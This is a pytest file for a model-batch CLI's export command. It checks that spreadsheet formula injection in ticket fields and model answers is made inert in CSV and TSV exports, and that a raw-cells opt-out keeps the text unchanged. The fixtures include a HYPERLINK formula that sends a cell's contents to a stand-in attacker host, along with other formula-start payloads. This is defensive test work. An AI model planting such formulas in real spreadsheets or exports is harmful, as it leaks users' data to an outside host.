"""What a user's input and a model's text can still do to a person reading the results (issue 24).

Spreadsheet formulas in exports, keys in any part of an endpoint URL, ids that
cannot be seen, terminal escape sequences: each test runs the real commands
against the embedded simulator (its `hostile_text` answers) and reads what a
person, a spreadsheet or a terminal would get."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from conftest import invoke_cli, read_jsonl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_JOB = """\
name = "hostile"
input = "tickets.jsonl"
run_dir = "run"
model = "openai/gpt-4o-mini"
concurrency = 4
timeout_s = 10
workers = 1

[prompt]
system = "Classify the ticket as exactly one of: bug, feature, billing, other."
user = "Subject: {{subject}}\\n\\n{{body}}"

[params]
max_tokens = 5

[retry]
max_attempts = 2
initial_backoff_s = 0.01
max_backoff_s = 0.02

[simulator]
latency_ms = 1
jitter = 0

[[simulator.scripts]]
rate = 1
steps = ["hostile_text"]
{extra}
"""

FORMULA_TICKETS = [
    {"id": "F1", "subject": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "body": "+1+1"},
    {"id": "F2", "subject": "-2+3", "body": "@SUM(A1:A9)"},
    {"id": "F3", "subject": "\t=1+1", "body": "\r=1+1"},
    {"id": "=F4", "subject": "plain", "body": "plain"},
]


def write_job(base: Path, tickets: list[dict], extra: str = "") -> Path:
    (base / "tickets.jsonl").write_bytes(b"".join(orjson.dumps(t) + b"\n" for t in tickets))
    job = base / "job.toml"
    job.write_text(HOSTILE_JOB.format(extra=extra))
    return job


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """Four tickets whose fields are formulas, each answered with HOSTILE_TEXT (a formula + escapes)."""
    base = tmp_path_factory.mktemp("hostile")
    job = write_job(base, FORMULA_TICKETS)
    done = invoke_cli("run", str(job), "--no-progress")
    assert done.returncode == 0, done.stderr
    return base / "run"


# -- 1. exports safe to open -----------------------------------------------------------------------

@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_no_exported_cell_starts_like_a_formula(hostile_run, tmp_path, fmt, delimiter):
    out = tmp_path / f"export.{fmt}"
    result = invoke_cli("export", str(hostile_run), "--format", fmt, "--with-input", "--out", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as handle:  # as a spreadsheet reads it
        rows = list(csv.reader(handle, delimiter=delimiter))
    header, body = rows[0], rows[1:]
    assert len(body) == 4
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_id = {row[0]: dict(zip(header, row)) for row in body}
    assert set(by_id) == {"F1", "F2", "F3", "'=F4"}  # an id is a cell like any other
    assert by_id["F1"]["output"].startswith("'=HYPERLINK(")  # the text kept, made inert
    assert by_id["F1"]["input.subject"] == "'" + FORMULA_TICKETS[0]["subject"]
    assert by_id["F2"]["input.subject"] == "'-2+3" and by_id["F2"]["input.body"] == "'@SUM(A1:A9)"
    assert by_id["F3"]["input.subject"] == "'\t=1+1" and by_id["F3"]["input.body"] == "'\r=1+1"
    assert by_id["F1"]["cost_usd"] and not by_id["F1"]["cost_usd"].startswith("'")  # numbers stay numbers


def test_raw_cells_opt_out_writes_the_text_as_it_is(hostile_run, tmp_path):
    out = tmp_path / "raw.csv"
    result = invoke_cli("export", str(hostile_run), "--format", "csv", "--with-input", "--raw-cells",
                        "--out", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    answers = {row["id"]: row["output"] for row in read_jsonl(hostile_run / "results.jsonl")}
    assert rows["F1"]["output"] == answers["F1"] and rows["F1"]["output"].startswith("=HYPERLINK(")
    assert rows["F2"]["input.subject"] == "-2+3" and "=F4" in rows
